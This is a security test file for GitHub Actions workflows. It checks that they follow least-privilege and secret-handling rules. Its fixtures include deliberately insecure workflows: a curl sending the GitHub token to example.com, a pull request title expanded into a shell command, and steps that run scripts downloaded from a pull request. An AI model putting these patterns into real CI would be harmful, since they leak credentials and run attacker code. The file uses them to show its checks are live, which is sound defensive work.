// A security review of every workflow in .github/workflows/ and of the workflows `mapsync init`
// writes, as rules any new workflow must also pass: no default token permissions, least privilege
// per job, no pull_request_target, no attacker-controlled ${{ github.event.* }} expanded into a
// shell script, every action pinned to a full commit SHA, and credentials handed only to the steps
// that run mapsync — through the pinned mapsync action, never code from the pull request. The
// pull request is split: its pull_request workflow (the PR's own copy of the file) names no
// secret and only reads; the workflow_run plan (always the default branch's file) has the
// credentials and never checks out or runs anything of the pull request's.
import { readdir, readFile } from 'node:fs/promises';
import { join } from 'node:path';
import { parse } from 'yaml';
import { beforeAll, describe, expect, it } from 'vitest';
import { REPO_ROOT } from '../helpers/cli.js';
import { generatedWorkflows, type WorkflowText } from '../helpers/generatedWorkflows.js';

const DIR = join(REPO_ROOT, '.github/workflows');

type Permissions = Record<string, string> | 'read-all' | 'write-all' | string | undefined;
interface Step { name?: string; id?: string; uses?: string; run?: string; env?: Record<string, unknown>; with?: Record<string, unknown>; if?: string }
interface Job { permissions?: Permissions; steps?: Step[]; uses?: string; env?: Record<string, unknown>; secrets?: unknown }
interface Workflow { on?: unknown; true?: unknown; permissions?: Permissions; env?: Record<string, unknown>; jobs: Record<string, Job> }

/** Scopes a job may write to, and why; anything else must be read or none. */
const WRITABLE = new Set(['pull-requests', 'issues']);
/**
 * The jobs that may write contents: drift pushes the mapsync/suggestions branch (git database
 * API); apply (behind the production environment) holds the lock ref refs/mapsync/locks/<store>.
 */
const CONTENTS_WRITERS = ['drift.yml job drift', 'apply.yml job apply'];
const mayWriteContents = (where: string) => CONTENTS_WRITERS.some((w) => where.endsWith(w));

const manifest = JSON.parse(await readFile(join(REPO_ROOT, 'package.json'), 'utf8')) as { version: string; repository: { url: string } };
const REPOSITORY = /github\.com\/([\w.-]+\/[\w.-]+?)(\.git)?$/.exec(manifest.repository.url)![1]!;
/**
 * The one action not pinned by SHA: the mapsync action in the workflows `init` writes, named by
 * the installed package's version (the package does not know its own commit; `init --action-ref
 * SHA` pins it).
 */
const MAPSYNC_AT_VERSION = `${REPOSITORY}@v${manifest.version}`;
const isMapsyncAction = (uses: string | undefined) => uses !== undefined && (uses === './' || uses.startsWith(`${REPOSITORY}@`));

let generated: WorkflowText[];
beforeAll(async () => {
  // Both CRMs, and a plugin-export store, whose check also uploads the committed users CSV.
  generated = [...await generatedWorkflows(), ...await generatedWorkflows(['salesforce'], ['--store', 'plugin-export:exports/users.csv'])];
});

async function workflows(): Promise<{ file: string; workflow: Workflow }[]> {
  const files = (await readdir(DIR)).filter((f) => /\.ya?ml$/.test(f)).sort();
  const own = await Promise.all(files.map(async (file) => ({ file, workflow: parse(await readFile(join(DIR, file), 'utf8')) as Workflow })));
  return [...own, ...generated.map(({ file, text }) => ({ file, workflow: parse(text) as Workflow }))];
}

function triggers(workflow: Workflow): string[] {
  // YAML 1.1 readers turn `on` into true; the yaml package (1.2) keeps "on".
  const on = workflow.on ?? workflow.true;
  if (typeof on === 'string') return [on];
  if (Array.isArray(on)) return on.map(String);
  return Object.keys((on ?? {}) as object);
}

/** Problems with a permissions block; `{}` and read-only maps are fine. */
function permissionProblems(where: string, permissions: Permissions, allowWrite: boolean): string[] {
  if (permissions === undefined) return [`${where}: no permissions block (the token would get the repository default)`];
  if (typeof permissions === 'string') return permissions === 'read-all' && allowWrite ? [] : [`${where}: permissions: ${permissions}`];
  const problems: string[] = [];
  for (const [scope, level] of Object.entries(permissions)) {
    if (level === 'read' || level === 'none') continue;
    if (level === 'write' && allowWrite && WRITABLE.has(scope)) continue;
    if (level === 'write' && allowWrite && scope === 'contents' && mayWriteContents(where)) continue;
    problems.push(`${where}: ${scope}: ${level}`);
  }
  return problems;
}

/** `${{ … }}` expressions in a text. */
const expressions = (text: string): string[] => [...text.matchAll(/\$\{\{([\s\S]*?)\}\}/g)].map((m) => m[1]!.trim());

// Event fields an outsider controls (titles, bodies, branch names, commit messages, …) and
// free-text inputs. Some event fields are harmless (numbers, SHAs), but the rule is simply: none
// in scripts — pass them through env: and quote "$VAR" in the script.
const UNTRUSTED = /\bgithub\.event\b|\bgithub\.head_ref\b|\binputs\./;

const runsMapsync = (step: Step): boolean => isMapsyncAction(step.uses);

/** The one token outside a mapsync step: the job's own token, for actions/download-artifact (pinned) to read another run's artifact. */
const isArtifactDownloadToken = (step: Step, key: string, value: unknown): boolean =>
  /^actions\/download-artifact@[0-9a-f]{40}$/.test(step.uses ?? '') && key === 'github-token' && value === '${{ github.token }}';

/** Whether a `${{ … }}` value or any text of a step names a repository secret. */
const namesSecret = (value: unknown): boolean => /\bsecrets\./.test(JSON.stringify(value ?? null));

/**
 * A pull_request run uses the pull request's own copy of the workflow file, so the pull request
 * decides what runs there: such a workflow gets no `secrets.*` anywhere (not even a step's `if:`)
 * and a token that can only read.
 */
function pullRequestProblems(file: string, workflow: Workflow): string[] {
  if (!triggers(workflow).includes('pull_request')) return [];
  const problems: string[] = [];
  if (namesSecret(workflow.env) || namesSecret(workflow.jobs)) problems.push(`${file}: a pull_request workflow names secrets.* (the pull request can edit this file and print them)`);
  for (const [name, job] of Object.entries(workflow.jobs)) {
    const permissions = job.permissions;
    const writes = typeof permissions === 'string' ? permissions !== 'read-all' : Object.values(permissions ?? {}).some((level) => level === 'write');
    if (writes) problems.push(`${file} job ${name}: a pull_request job may only read`);
  }
  return problems;
}

/** Commands that only read a file: the one way a workflow_run script may touch the pull request's data. */
const READERS = new Set(['head', 'cat', 'wc', 'grep', 'test', '[', '[[', 'ls', 'sha256sum']);

/** The shell commands of a script that name `folder` but are not a plain read of it (the path run, sourced, passed to bash, made executable, …). */
function commandsRunningFrom(script: string, folder: string): string[] {
  const escaped = folder.replace(/[.*+?^${}()|[\]\\]/g, '\\$&');
  const names = new RegExp(String.raw`(^|[\s"'=])(\./)?${escaped}(/|\s|$|["'])`);
  const found: string[] = [];
  for (const segment of script.split(/\|\||&&|[|;\n`]|\$\(|\bthen\b|\bdo\b/)) {
    if (!names.test(segment)) continue;
    const words = segment.trim().replace(/^((if|while|until|!|else|exec|command|builtin)\s+)+/, '').split(/\s+/);
    const command = words.find((w) => !/^\w+=/.test(w)); // skip NAME=value prefixes
    if (command === undefined || !READERS.has(command)) found.push(segment.trim());
  }
  return found;
}

/**
 * A workflow_run run comes from the default branch's file and has the secrets: it may read the
 * pull request's data but never run the pull request's code. So: no checkout of another ref or
 * repository (a bare checkout is the default branch in a workflow_run run), the artifact goes to
 * a folder of its own (never over the workspace, where `uses: ./` and the checkout live), no local
 * action from that folder, and a `run:` may only read files there.
 */
function workflowRunProblems(file: string, workflow: Workflow): string[] {
  if (!triggers(workflow).includes('workflow_run')) return [];
  const problems: string[] = [];
  for (const [name, job] of Object.entries(workflow.jobs)) {
    const steps = job.steps ?? [];
    const folders: string[] = [];
    for (const step of steps) {
      const label = `${file} job ${name} step "${step.name ?? step.uses ?? step.run}"`;
      if (step.uses?.startsWith('actions/checkout@')) {
        for (const key of ['ref', 'repository']) if (step.with?.[key] !== undefined) problems.push(`${label}: checks out ${key} ${String(step.with[key])}, not the default branch`);
      }
      if (step.uses?.startsWith('actions/download-artifact@')) {
        const folder = String(step.with?.path ?? '').replace(/^\.\//, '').replace(/\/+$/, '');
        if (folder === '' || folder === '.' || folder.includes('..') || folder.includes('$')) problems.push(`${label}: downloads into the workspace itself, not a folder of its own`);
        else folders.push(folder);
      }
      for (const folder of folders) {
        if (step.uses?.startsWith(`./${folder}`)) problems.push(`${label}: runs the action in the downloaded ${folder}/`);
        for (const command of commandsRunningFrom(step.run ?? '', folder)) problems.push(`${label}: runs something from the downloaded ${folder}/: ${command}`);
      }
    }
  }
  return problems;
}

describe('security rules for every workflow in .github/workflows/', () => {
  it('finds the workflows', async () => {
    expect((await workflows()).length).toBeGreaterThanOrEqual(3);
  });

  it('denies all permissions at the top and grants each job only read access, or write to pull requests / issues (and contents for the drift job\'s suggestions branch and the apply job\'s lock ref)', async () => {
    const problems: string[] = [];
    for (const { file, workflow } of await workflows()) {
      problems.push(...permissionProblems(`${file} (top level)`, workflow.permissions, false));
      for (const [name, job] of Object.entries(workflow.jobs)) problems.push(...permissionProblems(`${file} job ${name}`, job.permissions, true));
    }
    expect(problems).toEqual([]);
  });

  it('never runs on pull_request_target (the pull request\'s code with secrets)', async () => {
    for (const { file, workflow } of await workflows()) expect(triggers(workflow), file).not.toContain('pull_request_target');
  });

  it('splits the pull request: a pull_request workflow with no secrets that validates, and a workflow_run plan from the default branch', async () => {
    const all = await workflows();
    for (const group of [all.filter((w) => !w.file.startsWith('init ')), ...['salesforce', 'dynamics'].map((crm) => all.filter((w) => w.file.startsWith(`init --crm ${crm}:`)))]) {
      const onPullRequest = group.filter((w) => triggers(w.workflow).includes('pull_request'));
      const onWorkflowRun = group.filter((w) => triggers(w.workflow).includes('workflow_run'));
      expect(onPullRequest.map((w) => w.file)).toHaveLength(1);
      expect(onWorkflowRun.map((w) => w.file)).toHaveLength(1);
      const on = (onWorkflowRun[0]!.workflow.on ?? onWorkflowRun[0]!.workflow.true) as { workflow_run: { workflows: string[]; types: string[] } };
      expect(on.workflow_run).toEqual({ workflows: [(onPullRequest[0]!.workflow as Workflow & { name: string }).name], types: ['completed'] });
    }
  });

  it('never expands github.event.* (or other outsider-controlled text) inside a run: script', async () => {
    const problems: string[] = [];
    for (const { file, workflow } of await workflows()) {
      for (const [name, job] of Object.entries(workflow.jobs)) {
        for (const step of job.steps ?? []) {
          for (const expr of expressions(step.run ?? '')) {
            if (UNTRUSTED.test(expr)) problems.push(`${file} job ${name} step "${step.name ?? step.run}": \${{ ${expr} }} in run:`);
          }
        }
      }
    }
    expect(problems).toEqual([]);
  });

  it('pins every action and reusable workflow to a full 40-character commit SHA', async () => {
    const problems: string[] = [];
    for (const { file, workflow } of await workflows()) {
      for (const [name, job] of Object.entries(workflow.jobs)) {
        const uses = [job.uses, ...(job.steps ?? []).map((s) => s.uses)].filter((u): u is string => typeof u === 'string');
        for (const u of uses) {
          if (u.startsWith('./')) continue; // a local action is part of this repository
          if (u === MAPSYNC_AT_VERSION && file.startsWith('init ')) continue;
          if (!/^[\w.-]+\/[\w./-]+@[0-9a-f]{40}$/.test(u)) problems.push(`${file} job ${name}: ${u}`);
        }
      }
    }
    expect(problems).toEqual([]);
  });

  it('hands secrets (and the GitHub token) only to the env: of steps that run mapsync', async () => {
    const problems: string[] = [];
    const secretish = (value: unknown) => typeof value === 'string' && /\bsecrets\.|\bgithub\.token\b/.test(value);
    for (const { file, workflow } of await workflows()) {
      for (const [key, value] of Object.entries(workflow.env ?? {})) if (secretish(value)) problems.push(`${file}: workflow-level env ${key}`);
      for (const [name, job] of Object.entries(workflow.jobs)) {
        for (const [key, value] of Object.entries(job.env ?? {})) if (secretish(value)) problems.push(`${file} job ${name}: job-level env ${key}`);
        if (job.secrets !== undefined) problems.push(`${file} job ${name}: passes secrets to a reusable workflow`);
        for (const step of job.steps ?? []) {
          const label = `${file} job ${name} step "${step.name ?? step.uses ?? step.run}"`;
          if (expressions(step.run ?? '').some((e) => /\bsecrets\.|\bgithub\.token\b/.test(e))) problems.push(`${label}: secret expanded inside run:`);
          for (const [key, value] of Object.entries(step.with ?? {})) {
            if (secretish(value) && !isArtifactDownloadToken(step, key, value)) problems.push(`${label}: secret in with.${key}`);
          }
          const secretEnv = Object.entries(step.env ?? {}).filter(([, v]) => secretish(v)).map(([k]) => k);
          if (secretEnv.length > 0 && !runsMapsync(step)) problems.push(`${label}: gets ${secretEnv.join(', ')} but does not run mapsync`);
        }
      }
    }
    expect(problems).toEqual([]);
  });

  it('generated workflows are among those checked (both CRMs, all four, and a plugin-export store\'s)', async () => {
    expect((await workflows()).filter((w) => w.file.startsWith('init --crm ')).length).toBe(12);
  });

  it('never runs a pull request\'s own code with secrets: a pull_request workflow has none, a workflow_run workflow runs nothing from the pull request', async () => {
    const problems: string[] = [];
    for (const { file, workflow } of await workflows()) {
      problems.push(...pullRequestProblems(file, workflow), ...workflowRunProblems(file, workflow));
      for (const [name, job] of Object.entries(workflow.jobs)) {
        for (const step of job.steps ?? []) {
          // No step of a workflow runs npm, npx or node itself: that would run the checkout's package.json or node_modules.
          if (/^\s*(npm|npx|node|yarn|pnpm)\b/m.test(step.run ?? '')) problems.push(`${file} job ${name} step "${step.name}": runs ${step.run!.trim().split(/\s/)[0]} in the checkout`);
        }
      }
    }
    expect(problems).toEqual([]);
  });

  it('the pull_request rule is live: a secret, even only in an if:, or a write permission is caught', () => {
    const bad = parse(`
on: pull_request
jobs:
  plan:
    permissions:
      contents: read
      pull-requests: write
    steps:
      - uses: actions/checkout@${'a'.repeat(40)}
      - if: \${{ secrets.SF_ACCESS_TOKEN != '' }}
        run: echo hi
`) as Workflow;
    expect(pullRequestProblems('bad.yml', bad)).toEqual([
      'bad.yml: a pull_request workflow names secrets.* (the pull request can edit this file and print them)',
      'bad.yml job plan: a pull_request job may only read',
    ]);
  });

  it('the workflow_run rule is live: checking out the pull request, downloading over the workspace, or running the downloaded files is caught', () => {
    const bad = parse(`
on:
  workflow_run:
    workflows: [check]
    types: [completed]
jobs:
  plan:
    steps:
      - uses: actions/checkout@${'a'.repeat(40)}
        with:
          ref: \${{ github.event.workflow_run.head_sha }}
      - uses: actions/download-artifact@${'b'.repeat(40)}
        with:
          path: .
      - uses: actions/download-artifact@${'b'.repeat(40)}
        with:
          path: pr
      - uses: ./pr/action
      - name: reads
        run: |
          n=$(head -c 32 pr/number)
          [ -f pr/head-sha ] && cat pr/head-sha | wc -c
      - name: runs
        run: |
          bash pr/script.sh
          ./pr/run
          chmod +x pr/tool && echo ok
          x=$(source pr/env)
          cd pr; make
`) as Workflow;
    expect(workflowRunProblems('bad.yml', bad)).toEqual([
      'bad.yml job plan step "actions/checkout@aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa": checks out ref ${{ github.event.workflow_run.head_sha }}, not the default branch',
      'bad.yml job plan step "actions/download-artifact@bbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbb": downloads into the workspace itself, not a folder of its own',
      'bad.yml job plan step "./pr/action": runs the action in the downloaded pr/',
      'bad.yml job plan step "runs": runs something from the downloaded pr/: bash pr/script.sh',
      'bad.yml job plan step "runs": runs something from the downloaded pr/: ./pr/run',
      'bad.yml job plan step "runs": runs something from the downloaded pr/: chmod +x pr/tool',
      'bad.yml job plan step "runs": runs something from the downloaded pr/: source pr/env)',
      'bad.yml job plan step "runs": runs something from the downloaded pr/: cd pr',
    ]);
    // A workflow_run workflow that only reads its data passes.
    const good = { ...bad, jobs: { plan: { steps: bad.jobs.plan!.steps!.filter((s) => s.name === 'reads' || s.with?.path === 'pr') } } };
    expect(workflowRunProblems('good.yml', good)).toEqual([]);
  });

  it('the secrets rule is live: a token to any other action than the pinned download-artifact, or to a run:, is caught', () => {
    const step = (uses: string): Step => ({ uses, with: { 'github-token': '${{ github.token }}' } });
    expect(isArtifactDownloadToken(step(`actions/download-artifact@${'c'.repeat(40)}`), 'github-token', '${{ github.token }}')).toBe(true);
    expect(isArtifactDownloadToken(step('actions/download-artifact@v7'), 'github-token', '${{ github.token }}')).toBe(false);
    expect(isArtifactDownloadToken(step(`someone/download-artifact@${'c'.repeat(40)}`), 'github-token', '${{ github.token }}')).toBe(false);
    expect(isArtifactDownloadToken(step(`actions/download-artifact@${'c'.repeat(40)}`), 'github-token', '${{ secrets.MAPSYNC_SECRETS_TOKEN }}')).toBe(false);
  });

  it('checks out without persisting the token in .git/config', async () => {
    for (const { file, workflow } of await workflows()) {
      for (const job of Object.values(workflow.jobs)) {
        for (const step of (job.steps ?? []).filter((s) => s.uses?.startsWith('actions/checkout@'))) {
          expect(step.with?.['persist-credentials'], file).toBe(false);
        }
      }
    }
  });

  it('the rules catch a workflow that breaks them (they are live)', () => {
    const bad = parse(`
on: pull_request_target
permissions: write-all
env:
  TOKEN: \${{ secrets.SF_ACCESS_TOKEN }}
jobs:
  x:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@v4
      - run: echo "\${{ github.event.pull_request.title }}"
      - run: 'curl -H "Authorization: \${{ secrets.GITHUB_TOKEN }}" https://example.com'
`) as Workflow;
    expect(triggers(bad)).toContain('pull_request_target');
    expect(permissionProblems('bad', bad.permissions, false)).toEqual(['bad: permissions: write-all']);
    expect(permissionProblems('bad job x', bad.jobs.x!.permissions, true)).toHaveLength(1);
    const steps = bad.jobs.x!.steps!;
    expect(steps[0]!.uses).not.toMatch(/@[0-9a-f]{40}$/);
    expect(expressions(steps[1]!.run!).some((e) => UNTRUSTED.test(e))).toBe(true);
    expect(expressions(steps[2]!.run!).some((e) => /\bsecrets\./.test(e))).toBe(true);
  });
});
